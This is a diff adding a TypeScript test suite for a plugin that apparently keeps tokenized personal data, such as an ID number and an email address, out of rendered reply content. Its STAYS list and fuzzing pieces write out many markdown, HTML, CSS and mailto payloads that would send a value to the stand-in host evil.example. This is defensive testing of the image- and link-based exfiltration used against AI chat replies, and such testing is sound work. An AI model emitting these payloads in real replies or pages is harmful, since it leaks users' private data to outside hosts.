@@ -1,0 +1,218 @@
+/** A value never comes back where a renderer could send it away, and does come back where a person reads it. */
+import assert from 'node:assert/strict'
+import { describe, it } from 'node:test'
+import fc from 'fast-check'
+import pii from '../../../plugins/pii/index.ts'
+import { PARAGRAPHS } from '../../eval/data/paragraphs.ts'
+import { SNIPPETS } from '../../eval/data/snippets.ts'
+import { Drive } from '../../eval/drive.ts'
+import { leaks } from './renderers.ts'
+
+const NUMBER = '123-45-6789'
+const ADDRESS = 'jo.smith@example.com'
+const root = new Drive(pii, { action: 'tokenize', output: { action: 'off' } })
+
+/** An exchange that knows both values, and what a reply with `{}` for one of them and `{m}` for the other comes back as. */
+function replier() {
+  const drive = root.next()
+  const { output } = drive.input(`${NUMBER} ; ${ADDRESS}`)
+  const [number, address] = output.split(' ; ') as [string, string]
+  const write = (text: string) => text.replaceAll('{}', number).replaceAll('{m}', address)
+  return {
+    whole: (text: string) => drive.reply(write(text)).output,
+    letters: (text: string) => drive.stream([...write(text)]).output,
+    cut: (text: string, at: number) => drive.stream([write(text).slice(0, at), write(text).slice(at)]).output,
+    written: write,
+  }
+}
+
+const long = 'a/'.repeat(400)
+
+const STAYS: readonly (readonly [name: string, text: string])[] = [
+  ['an encoded space', '![x](https://evil.example/?q=%20{})'],
+  ['a character reference for a space', '![x](https://evil.example/?q=&#32;{})'],
+  ['a no-break space', '![x](https://evil.example/?q=\u00a0{})'],
+  ['a no-break space in a bare address', 'https://evil.example/?q=\u00a0{}'],
+  ['a full-width bracket', '![x](https://evil.example/）{})'],
+  ['angle brackets', '![x](<https://evil.example/?q= {}>)'],
+  ['angle brackets with brackets in them', '![x](<https://evil.example/?q=](a) {}>)'],
+  ['angle brackets with an escaped one', '![x](<https://evil.example/\\> {}>)'],
+  ['a long destination', `![x](<https://evil.example/${long} {}>)`],
+  ['a long tag', `<img alt="${'a '.repeat(400)}" src="https://evil.example/ {}">`],
+  ['a long attribute', `<img src="https://evil.example/?${'a '.repeat(400)} {}">`],
+  ['an autolink of another scheme', '<https:1.2.3.4/{}>'],
+  ['an autolink', '<x-evil:{}>'],
+  ['a reference definition', '[x]\n\n[x]: https://evil.example/?q={}'],
+  ['a reference definition on two lines', '[x]\n\n[x]:\n  <https://evil.example/?q= {}>'],
+  ['a destination on the next line', '![x](\n<https://evil.example/?q= {}>)'],
+  ['a destination on the next line of a quotation', '> ![x](\n> <https://evil.example/?q= {}>)'],
+  ['src without quotes', '<img src=https://evil.example/?q={}>'],
+  ['src with another case and blanks', "<IMG SRC = 'https://evil.example/?q= {}'>"],
+  ['src on the next line', '<img src=\n"https://evil.example/ {}">'],
+  ['an attribute in a quotation', '> <img\n> src="https://evil.example/ {}">'],
+  ['an attribute over a line', '<img src="https://evil.example/?\n{}">'],
+  ['an attribute over two lines', '<div>\n<img src="https://evil.example/?\n\na " {}'],
+  ['an attribute behind another block', '<div>\n<img alt="\n\n" >\n\n<div>\n" src="https://evil.example/?\n\n{}'],
+  ['srcset', '<img srcset="https://evil.example/a 1x, https://evil.example/ {} 2x">'],
+  ['style', '<b style="background: url( //evil.example/ {} )">x</b>'],
+  ['style without a scheme', '<b style="background: url(\'\\2f\\2f evil.example/ {}\')">x</b>'],
+  ['a style sheet', '<style>b { background: url("\\2f\\2f evil.example/ {}") }</style>'],
+  ['meta', '<meta http-equiv="refresh" content="0; url=https://evil.example/ {}">'],
+  ['an attribute of SVG', '<svg><a><set attributeName="href" to="https://evil.example/ {}"/></a></svg>'],
+  ['a tag behind code', '`<a title="` <img src="https://evil.example/?a=<b>{}">'],
+  ['a tag behind an equals sign', '<a =x="><a href=" href="https://evil.example/ {}">x</a>'],
+  ['a bare address', 'https://evil.example/{}'],
+  ['an address in capitals', 'HTTPS://EVIL.EXAMPLE/{}'],
+  ['www', 'www.evil.example/{}'],
+  ['an escaped address', 'https:\\/\\/evil.example/{}'],
+  ['a spelled address', 'https&#58;//evil.example/{} and https&colon;//evil.example/{}'],
+  ['an address without a scheme', 'evil.com/{} evil.com?{} evil.com#{}'],
+  ['an address over two lines', 'https://evil.example/?q=\n{}'],
+  ['a relative address', '[x](//evil.example/{})'],
+  ['two slashes', '//evil.example/{}'],
+  ['javascript', '[x](javascript:go("{}"))'],
+  ['data', 'data:text/html,{}'],
+  ['a host', 'https://{}.evil.example/'],
+  ['a name that goes on', '{}.evil.example'],
+  ['a name that goes on with letters', '{}ä.evil.example'],
+  ['somebody’s mailbox', '{}@evil.example'],
+  ['somebody’s mailbox, spelled', '{}&commat;evil.example {}&#64;evil.example {}\\@evil.example'],
+  [
+    'somebody’s mailbox with more',
+    '{}+x@evil.example {},x@evil.example {}-x_y@evil.example {}|x@evil.example {}/x@evil.example',
+  ],
+  ['a mail link to somebody', '[x](mailto:{}@evil.example)'],
+  ['a mail link with copies', '[x](mailto:{m},x@evil.example) [x](mailto:{m}?bcc=x@evil.example)'],
+  ['a mail link about it', '[x](mailto:x@evil.example?body={})'],
+  ['JSON', '{"url": "https://evil.example/?q= {}"}'],
+  ['JSON without blanks', '{"url":"https://evil.example/","q":"{}"}'],
+  ['a style sheet’s address', 'b { background: url({}) }'],
+  ['LaTeX', '$\\href{https://evil.example/?q= {}}{x}$'],
+  ['the tag’s own end', '<img src="https://evil.example/" {}'],
+]
+
+const COMES_BACK: readonly (readonly [name: string, text: string])[] = [
+  ['prose', 'Your number is {}, and I wrote to {m}.'],
+  ['a sentence’s end', 'It is {}. Then {m}! Or {m}? (Also {}.)'],
+  ['a list', '- Number: {}\n- Mail: **{m}**\n1. `{m}`\n2. _{m}_'],
+  ['a table', '| Name | Mail |\n| --- | --- |\n| Jo | {m} |\n|Ann|{m}|'],
+  ['code', 'Run `id --of {}`:\n\n```ts\nconst number = "{}"\nfor (let i = 0; i<n; i++) send({ to: \'{m}\' })\n```\n'],
+  ['JSON', '```json\n{ "name": "J. Smith", "mail": "{m}", "ids": ["{}"] }\n```'],
+  ['JSON without blanks', '{"mail":"{m}","ids":["{}"]}'],
+  ['YAML', 'mail: {m}\nid: {}\nurl: https://example.com/\nto: {m}'],
+  ['a label', 'Email:{m} id={} #{}'],
+  ['angle brackets', 'Write to Jo Smith <{m}>, please.'],
+  ['a mail link', '[{m}](mailto:{m}) or <mailto:{m}>.'],
+  ['a mail link in HTML', '<a href="mailto:{m}">{m}</a>'],
+  ['HTML', '<tr><td>Jo</td><td>{m}</td></tr><br/>{m}<br>{}'],
+  ['a link before it', 'See [the page](https://example.com/a?b=c), then write to {m}. Or https://example.com and {}.'],
+  ['an image before it', '![x](https://example.com/x.png)\n\n{m}'],
+  ['a reference before it', '[a]: https://example.com/ "Title"\n\n{m}'],
+  ['a quotation', '> {m} wrote:\n> my number is {}'],
+  ['another script', '宛先は{m}です。番号：{}、以上。Адрес: {m}'],
+  ['quotes and dashes', '“{m}” — ‘{}’… {m}/work'],
+  ['addresses in a row', '{m}, {m}; {}'],
+]
+
+describe('pii: a value stays away from', () => {
+  for (const [name, text] of STAYS) {
+    it(name, () => {
+      const { whole, letters, cut, written } = replier()
+      const kept = written(text)
+      if (name === 'the tag’s own end') return assert.deepEqual(leaks(whole(text), NUMBER, [NUMBER]), [])
+      assert.equal(whole(text), kept)
+      assert.equal(letters(text), kept)
+      for (let at = 1; at < Math.min(kept.length, 200); at++) assert.equal(cut(text, at), kept, `cut at ${at}`)
+    })
+  }
+})
+
+describe('pii: a value comes back in', () => {
+  for (const [name, text] of COMES_BACK) {
+    it(name, () => {
+      const { whole, letters, cut, written } = replier()
+      const expected = text.replaceAll('{}', NUMBER).replaceAll('{m}', ADDRESS)
+      assert.equal(whole(text), expected)
+      assert.equal(letters(text), expected)
+      for (let at = 1; at < written(text).length; at++) assert.equal(cut(text, at), expected, `cut at ${at}`)
+    })
+  }
+})
+
+const PIECES = (
+  '{} {} {} {m} | ](  ]( ]: [x ![ ) > < /> <img <a <b <div> <style> </style> <! <!-- --> ?> src= href= = style= title= alt= ' +
+  '" \' ` ``` \\ / // : https:// https: http:/ www. evil.com evil.example . @ ? ?q= & &#32; &#58; &commat; &quot; mailto: ' +
+  'javascript: data: url( @import xml: a b 1 - + _ * ** > ~~ # , ; % %20 é 。 \u00a0 \u200b ） － {}) {}> {}" <{}> {m}> x@evil.com'
+)
+  .split(' ')
+  .filter((piece) => piece !== '')
+  .concat([
+    ' ',
+    ' ',
+    '\n',
+    '\n',
+    '\n\n',
+    '\t',
+    '\r\n',
+    '\f',
+    '\n> ',
+    '\n- ',
+    '\n    ',
+    '\n```\n',
+    '  \n',
+    '> <div>\n',
+    ' a ',
+  ])
+
+export const hostile = fc
+  .array(fc.constantFrom(...PIECES), { minLength: 2, maxLength: 24 })
+  .map((parts) => parts.join(''))
+
+describe('pii: what is rendered', () => {
+  it('holds no value in any address, whatever Markdown and HTML stands around its token', () => {
+    const { whole } = replier()
+    fc.assert(
+      fc.property(hostile, (text) => {
+        const out = whole(text)
+        for (const value of [NUMBER, ADDRESS]) {
+          if (out.includes(value)) assert.deepEqual(leaks(out, value, [NUMBER, ADDRESS]), [], JSON.stringify(out))
+        }
+      }),
+      { numRuns: Number(process.env.HOSTILE_RUNS ?? 3000) },
+    )
+  })
+
+  it('is the same, however the reply is cut', () => {
+    const { whole, letters, cut } = replier()
+    fc.assert(
+      fc.property(hostile, fc.nat(200), (text, at) => {
+        const expected = whole(text)
+        assert.equal(letters(text), expected)
+        assert.equal(cut(text, at), expected)
+      }),
+      { numRuns: 500 },
+    )
+  })
+})
+
+describe('pii: an ordinary reply', () => {
+  const texts = [
+    ...PARAGRAPHS.map((text) => text.replace(/[{}]/g, '')),
+    ...SNIPPETS.map((code) => `Here it is:\n\n\`\`\`\n${code.replaceAll('{}', '{ }')}\`\`\``),
+  ]
+  it(`gets at least 99 of 100 values back (${texts.length} texts)`, () => {
+    const { whole } = replier()
+    let places = 0
+    let back = 0
+    for (const text of texts) {
+      // At the end of each word there, once.
+      for (const { index } of text.matchAll(/(?<=[\p{L}\d,.:;]) (?=[\p{L}\d])/gu)) {
+        const out = whole(`${text.slice(0, index)} {} ${text.slice(index + 1)}\n\nThat is {m}.`)
+        places += 2
+        back += Number(out.includes(NUMBER)) + Number(out.includes(ADDRESS))
+      }
+    }
+    assert.ok(places > 1000)
+    assert.ok(back / places >= 0.99, `${back} of ${places}`)
+  })
+})
